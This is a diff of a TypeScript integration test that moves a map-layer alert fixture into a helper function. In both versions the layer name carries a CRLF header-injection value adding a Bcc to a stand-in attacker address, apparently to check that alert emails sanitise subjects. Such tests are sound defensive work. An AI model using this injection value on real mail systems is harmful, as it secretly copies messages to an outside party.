@@ -2,6 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 
 import { startDemoBroker, type DemoBroker } from '../../demo/broker/server'
 import { authHeaders, ensureAccounts, type Role, type Session } from '../helpers/accounts'
+import { no2AlertLayer } from '../helpers/layers'
 import { headerOf } from '../helpers/mailHeaders'
 import { linksOf, type SmtpCatcher, startSmtpCatcher } from '../helpers/smtp'
 
@@ -60,16 +61,8 @@ beforeAll(async () => {
   const layer = await fetch(`${app.baseUrl}/api/map-layers`, {
     method: 'POST',
     headers: admin,
-    body: JSON.stringify({
-      // A name that would add a header if it reached a subject as it is.
-      name: 'Air\r\nBcc: attacker@evil.example',
-      entityType: 'AirQualityObserved',
-      attributes: ['name', 'no2'],
-      // Fires at every station, on every load.
-      alertRules: [{ attribute: 'no2', operator: 'gt', value: '0', level: 'critical', message: 'NO2 at {value}' }],
-      refreshSeconds: 10,
-      maxFeatures: 1000,
-    }),
+    // A name that would add a header if it reached a subject as it is; the rule fires at every station, on every load.
+    body: JSON.stringify(no2AlertLayer('Air\r\nBcc: attacker@evil.example', 0, 'NO2 at {value}')),
   })
   expect(layer.status, await layer.clone().text()).toBe(201)
   layerId = ((await layer.json()) as { doc: { id: number } }).doc.id
